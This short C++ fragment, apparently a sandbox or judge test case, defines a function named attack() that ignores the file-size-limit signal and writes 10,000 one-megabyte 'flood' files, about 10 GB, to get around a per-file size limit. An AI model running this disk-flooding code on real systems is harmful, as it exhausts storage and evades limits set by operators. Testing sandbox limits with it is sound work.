// 10 GB into files that are each within the limit.
#include <signal.h>
#include <cstdio>
#include <cstring>
static char part[1 << 20];
float attack() {
    signal(SIGXFSZ, SIG_IGN);
    for (int i = 0; i < 10000; ++i) {
        char name[32];
        std::snprintf(name, sizeof name, "flood%d", i);
        if (std::FILE* file = std::fopen(name, "wb")) {
            std::fwrite(part, 1, sizeof part, file);
            std::fclose(file);
        }
    }
    return 0.0f;
}
